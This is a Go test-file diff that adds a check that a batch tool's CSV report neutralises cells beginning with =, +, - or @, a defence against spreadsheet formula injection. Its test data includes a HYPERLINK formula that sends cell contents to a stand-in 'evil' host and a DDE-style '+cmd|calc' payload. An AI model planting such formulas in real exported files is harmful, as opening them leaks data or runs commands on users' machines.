@@ -1,10 +1,12 @@
 package batch
 
 import (
+	"encoding/csv"
 	"os"
 	"path/filepath"
 	"regexp"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -58,6 +60,33 @@ func TestReports(t *testing.T) {
 	}
 	if found := regexp.MustCompile(`(src|href)="([^"d]|d[^"a])`).FindString(html); found != "" {
 		t.Errorf("the page refers to another file: %s", found)
+	}
+}
+
+// TestTheTableIsNoProgram gives names and descriptions that a spreadsheet would compute.
+func TestTheTableIsNoProgram(t *testing.T) {
+	c := newCohort(t)
+	formulas := []string{`=HYPERLINK("http://evil/?"&A1,"x")`, "+cmd|calc", "@SUM(1)", "-1+1"}
+	var all []Result
+	for i, text := range formulas {
+		all = append(all, Result{ID: strconv.Itoa(i), Unit: text, Series: text, Output: text, Problem: text, SameAs: text, Verdict: text, Why: text, Warnings: []string{text}, Format: text, Modality: text, Engine: text})
+	}
+	path := filepath.Join(t.TempDir(), "report.csv")
+	c.must(writeCSV(path, all))
+	file, err := os.Open(path)
+	c.must(err)
+	defer file.Close()
+	rows, err := csv.NewReader(file).ReadAll()
+	c.must(err)
+	if len(rows) != len(formulas)+1 {
+		t.Fatalf("%d rows", len(rows))
+	}
+	for _, row := range rows[1:] {
+		for i, cell := range row {
+			if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "-") || strings.HasPrefix(cell, "@") {
+				t.Errorf("%s is %q", columns[i].name, cell)
+			}
+		}
 	}
 }
 
